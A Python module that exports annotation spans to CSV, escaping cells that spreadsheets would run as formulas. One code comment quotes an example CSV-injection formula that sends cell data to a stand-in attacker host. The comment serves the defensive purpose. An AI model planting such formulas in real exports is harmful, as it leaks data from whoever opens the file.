"""CSV: one row per span under a header row (``fields.SPAN_CSV_COLUMNS``); written only.

Relations are one cell, ``type:target;type:target``. Provenance is in the
``X-Debatemap-Provenance`` header only, so every CSV reader reads the file as it is. Text
cells that a spreadsheet would run as a formula are written with a leading apostrophe.
"""

import csv
import io
import unicodedata
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from annotations.fields import SPAN_CSV_COLUMNS, SPAN_EXPORT
from annotations.formats.rows import BLOCK_BYTES, ExportRelation, ExportSpan, blocks

CSV_COLUMNS = SPAN_CSV_COLUMNS


def relations_cell(relations: Iterable[ExportRelation]) -> str:
    """Return relations as one compact CSV cell: ``supports:15;attacks:22``."""
    return ";".join(f"{relation.type}:{relation.target}" for relation in relations)


# A spreadsheet runs a cell that starts with one of these as a formula, so a note such as
# =HYPERLINK("https://evil.example/?"&A2) would act on whoever opens the export (CSV injection).
# Spreadsheets skip leading blanks and read full-width forms (U+FF1D) as their ASCII
# characters, so the test is on the first character that is not a blank, after NFKC.
_FORMULA_FIRST = frozenset("=+-@")
_CONTROL_FIRST = frozenset("\t\r\n")


def csv_text(value: str) -> str:
    """Return text for a CSV cell: with a leading apostrophe when a spreadsheet would run it.

    Spreadsheets show the apostrophe-led cell as the text after it; JSON Lines keeps the exact
    value for programs.
    """
    if not value:
        return value
    first = unicodedata.normalize("NFKC", value).lstrip()[:1]
    if value[0] in _CONTROL_FIRST or first in _FORMULA_FIRST:
        return "'" + value
    return value


def _text(name: str) -> Callable[[ExportSpan], tuple[Any, ...]]:
    def cells(span: ExportSpan) -> tuple[Any, ...]:
        return (csv_text(getattr(span, name) or ""),)

    return cells


def _value(name: str) -> Callable[[ExportSpan], tuple[Any, ...]]:
    def cells(span: ExportSpan) -> tuple[Any, ...]:
        return (getattr(span, name),)

    return cells


def _actor(span: ExportSpan) -> tuple[Any, ...]:
    actor = span.actor
    return ("", "") if actor is None else (actor.id, csv_text(actor.name))


# The cells of each field of ``fields.SPAN_EXPORT``: text through csv_text, numbers and
# times as they are, the actor as its id and name.
_CELLS = {
    "id": _value("id"),
    "document": lambda span: (span.document.id,),
    "document_sha256": lambda span: (span.document.sha256,),
    "layer": _text("layer"),
    "annotator": _text("annotator"),
    "start": _value("start"),
    "end": _value("end"),
    "quote": _text("quote"),
    "stance": _text("stance"),
    "role": _text("role"),
    "actor": _actor,
    "note": _text("note"),
    "relations": lambda span: (csv_text(relations_cell(span.relations)),),
    "version": _value("version"),
    "created_by": _text("created_by"),
    "created_at": _value("created_at"),
    "updated_at": _value("updated_at"),
}
_ROW = tuple(_CELLS[name] for name in SPAN_EXPORT)


def csv_row(span: ExportSpan) -> list[Any]:
    """Return a span's CSV row, in the order of ``CSV_COLUMNS``."""
    return [cell for cells in _ROW for cell in cells(span)]


def csv_export(*, spans: Iterable[ExportSpan]) -> Iterator[bytes]:
    """Yield the CSV export: a header row, then one row per span."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")

    def rows() -> Iterator[str]:
        writer.writerow(CSV_COLUMNS)
        for span in spans:
            writer.writerow(csv_row(span))
            if buffer.tell() >= BLOCK_BYTES:
                yield buffer.getvalue()
                buffer.seek(0)
                buffer.truncate()
        yield buffer.getvalue()

    return blocks(rows())
